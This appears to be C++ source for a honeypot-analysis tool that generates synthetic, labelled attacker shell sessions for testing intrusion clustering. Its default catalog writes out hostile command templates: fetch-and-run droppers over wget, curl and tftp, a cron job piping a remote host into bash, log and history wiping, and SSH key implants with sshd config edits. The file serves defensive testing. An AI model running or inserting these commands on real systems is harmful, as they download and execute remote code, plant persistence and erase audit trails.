#include "hc/synth.hpp"

#include <algorithm>
#include <cmath>
#include <istream>
#include <ostream>

#include <nlohmann/json.hpp>

namespace hc {

namespace {

std::string random_host(Rng& rng) {
    return std::to_string(1 + uniform_index(rng, 223)) + "." +
           std::to_string(uniform_index(rng, 256)) + "." +
           std::to_string(uniform_index(rng, 256)) + "." +
           std::to_string(1 + uniform_index(rng, 254));
}

std::string random_file(Rng& rng) {
    static const char* exts[] = {".sh", ".bin", ".x86", ".mips"};
    std::string name;
    for (int i = 0; i < 6; ++i) name += char('a' + uniform_index(rng, 26));
    return name + exts[uniform_index(rng, 4)];
}

void validate(const std::vector<FamilySpec>& specs) {
    if (specs.empty()) throw EmptySpec();
    for (const auto& fam : specs) {
        if (fam.templates.empty())
            throw Error("family " + std::to_string(fam.id) + " has no templates");
        if (fam.ip_pool == 0)
            throw Error("family " + std::to_string(fam.id) + " has an empty ip pool");
        if (fam.intervals.empty())
            throw Error("family " + std::to_string(fam.id) + " has no schedule intervals");
        auto sorted = fam.intervals;
        std::sort(sorted.begin(), sorted.end(),
                  [](const ActiveInterval& a, const ActiveInterval& b) { return a.start < b.start; });
        for (size_t i = 0; i < sorted.size(); ++i) {
            if (sorted[i].end <= sorted[i].start || sorted[i].mean_gap <= 0)
                throw Error("family " + std::to_string(fam.id) + " has a bad interval");
            if (i > 0 && sorted[i].start < sorted[i - 1].end)
                throw Error("family " + std::to_string(fam.id) + " has overlapping intervals");
        }
    }
}

}  // namespace

std::string mutate_template(const std::string& tmpl, Rng& rng) {
    std::string out;
    size_t pos = 0;
    while (pos < tmpl.size()) {
        size_t open = tmpl.find('{', pos);
        if (open == std::string::npos) {
            out.append(tmpl, pos, std::string::npos);
            break;
        }
        size_t close = tmpl.find('}', open);
        if (close == std::string::npos) {
            out.append(tmpl, pos, std::string::npos);
            break;
        }
        out.append(tmpl, pos, open - pos);
        std::string slot = tmpl.substr(open + 1, close - open - 1);
        if (slot == "host") {
            out += random_host(rng);
        } else if (slot == "file") {
            out += random_file(rng);
        } else if (slot == "num") {
            out += std::to_string(uniform_index(rng, 65536));
        } else {
            throw UnboundSlot(slot);
        }
        pos = close + 1;
    }
    return out;
}

std::string mutate_template(const std::string& tmpl, uint64_t seed) {
    Rng rng = make_rng(seed);
    return mutate_template(tmpl, rng);
}

LabeledCorpus generate(const std::vector<FamilySpec>& specs, uint64_t seed) {
    validate(specs);
    LabeledCorpus corpus;

    for (const auto& fam : specs) {
        Rng rng = make_rng(derive_seed(seed, "synth-family", fam.id));

        int64_t active_total = 0;
        for (const auto& iv : fam.intervals) active_total += iv.end - iv.start;

        for (uint32_t i = 0; i < fam.ip_pool; ++i) {
            std::string ip = "10." + std::to_string(fam.id) + "." + std::to_string(i / 256) +
                             "." + std::to_string(1 + i % 256);
            corpus.ip_truth[ip] = fam.id;

            // Exponential gaps walked along the unrolled active timeline,
            // wrapped so every ts stays inside a schedule interval.
            int64_t pos = int64_t(uniform01(rng) * double(active_total));
            std::vector<std::pair<int64_t, uint32_t>> sessions;  // (ts, template)
            for (uint32_t s = 0; s < fam.sessions_per_ip; ++s) {
                double gap = -std::log(std::max(uniform01(rng), 1e-12)) *
                             double(fam.intervals.front().mean_gap);
                pos = (pos + std::max<int64_t>(1, int64_t(gap))) % active_total;
                int64_t rem = pos;
                int64_t ts = fam.intervals.back().end - 1;
                for (const auto& iv : fam.intervals) {
                    int64_t len = iv.end - iv.start;
                    if (rem < len) {
                        ts = iv.start + rem;
                        break;
                    }
                    rem -= len;
                }
                sessions.emplace_back(ts, uint32_t(uniform_index(rng, fam.templates.size())));
            }
            std::stable_sort(sessions.begin(), sessions.end(),
                             [](const auto& a, const auto& b) { return a.first < b.first; });

            for (size_t s = 0; s < sessions.size(); ++s) {
                auto [ts, tid] = sessions[s];
                SessionRecord rec;
                rec.ip = ip;
                rec.ts = ts;
                for (const auto& line : fam.templates[tid]) {
                    rec.commands.push_back(mutate_template(line, rng));
                }
                corpus.records.push_back(std::move(rec));
                corpus.session_truth[SessionId{ip, s}.str()] = {fam.id, tid};
            }
        }
    }
    return corpus;
}

std::vector<FamilySpec> default_spec(uint32_t families, uint32_t ips, uint32_t sessions_per_ip) {
    const std::vector<std::vector<std::vector<std::string>>> catalog = {
        {   // dropper
            {"cd /tmp && wget http://{host}/{file}", "chmod +x {file}", "./{file} >/dev/null 2>&1 &"},
            {"cd /var/run; wget http://{host}/{file} -O upd", "chmod 777 upd && ./upd"},
            {"wget -q http://{host}/{file}; sh {file}; rm -rf {file}"},
        },
        {   // recon
            {"uname -a", "cat /proc/cpuinfo | grep model", "free -m"},
            {"uname -m; nproc", "cat /proc/meminfo | head -{num}"},
            {"whoami; uname -r", "lscpu | grep MHz"},
        },
        {   // track cleaning
            {"history -c && rm -f ~/.bash_history", "unset HISTFILE"},
            {"export HISTSIZE=0", "history -c", "touch -t {num} /var/log/lastlog"},
            {"rm -f /var/log/wtmp; history -w"},
        },
        {   // miner
            {"curl -s http://{host}/setup_{num}.sh | bash", "nohup ./kworker -o {host}:{num} &"},
            {"pkill -f kworker; curl -o /tmp/m{num} http://{host}/m", "nice -n 19 /tmp/m{num}"},
            {"crontab -l; echo '* * * * * curl {host}|bash' | crontab -"},
        },
        {   // ssh key implant
            {"mkdir -p ~/.ssh", "echo ssh-rsa AAAAB{num} >> ~/.ssh/authorized_keys",
             "chmod 600 ~/.ssh/authorized_keys"},
            {"cat ~/.ssh/id_rsa.pub", "grep -c ssh ~/.ssh/authorized_keys"},
            {"sed -i s/PermitRootLogin/#x/ /etc/ssh/sshd_config", "service sshd restart"},
        },
        {   // iot/busybox
            {"/bin/busybox cp /bin/sh /tmp/{file}", "busybox tftp -g -r {file} {host}",
             "/bin/busybox chmod 777 /tmp/{file}"},
            {"busybox cat /proc/mounts", "busybox echo -e \\x51\\x51{num}"},
            {"busybox wget http://{host}/mips.{num} -O /tmp/.m", "/tmp/.m selfrep"},
        },
    };
    if (families == 0 || families > catalog.size())
        throw Error("default_spec supports 1.." + std::to_string(catalog.size()) + " families");

    std::vector<FamilySpec> specs;
    const int64_t day = 86400;
    for (uint32_t f = 0; f < families; ++f) {
        FamilySpec fam;
        fam.id = f;
        fam.templates = catalog[f];
        fam.ip_pool = ips;
        fam.sessions_per_ip = sessions_per_ip;
        // Staggered activity windows so families alternate on the timeline.
        fam.intervals = {
            {int64_t(f) * day, int64_t(f) * day + 2 * day, 1800},
            {int64_t(f) * day + 10 * day, int64_t(f) * day + 12 * day, 1800},
        };
        specs.push_back(std::move(fam));
    }
    return specs;
}

std::vector<FamilySpec> load_spec(std::istream& in) {
    nlohmann::json j = nlohmann::json::parse(in);
    std::vector<FamilySpec> specs;
    for (const auto& fj : j.at("families")) {
        FamilySpec fam;
        fam.id = fj.at("id").get<uint32_t>();
        for (const auto& tj : fj.at("templates")) {
            fam.templates.push_back(tj.get<std::vector<std::string>>());
        }
        fam.ip_pool = fj.at("ip_pool").get<uint32_t>();
        fam.sessions_per_ip = fj.at("sessions_per_ip").get<uint32_t>();
        for (const auto& ij : fj.at("intervals")) {
            fam.intervals.push_back(ActiveInterval{ij.at("start").get<int64_t>(),
                                                   ij.at("end").get<int64_t>(),
                                                   ij.at("mean_gap").get<int64_t>()});
        }
        specs.push_back(std::move(fam));
    }
    validate(specs);
    return specs;
}

void save_spec(std::ostream& out, const std::vector<FamilySpec>& specs) {
    nlohmann::json families = nlohmann::json::array();
    for (const auto& fam : specs) {
        nlohmann::json intervals = nlohmann::json::array();
        for (const auto& iv : fam.intervals) {
            intervals.push_back({{"start", iv.start}, {"end", iv.end}, {"mean_gap", iv.mean_gap}});
        }
        families.push_back({{"id", fam.id},
                            {"templates", fam.templates},
                            {"ip_pool", fam.ip_pool},
                            {"sessions_per_ip", fam.sessions_per_ip},
                            {"intervals", intervals}});
    }
    out << nlohmann::json{{"families", families}}.dump(2) << "\n";
}

}  // namespace hc
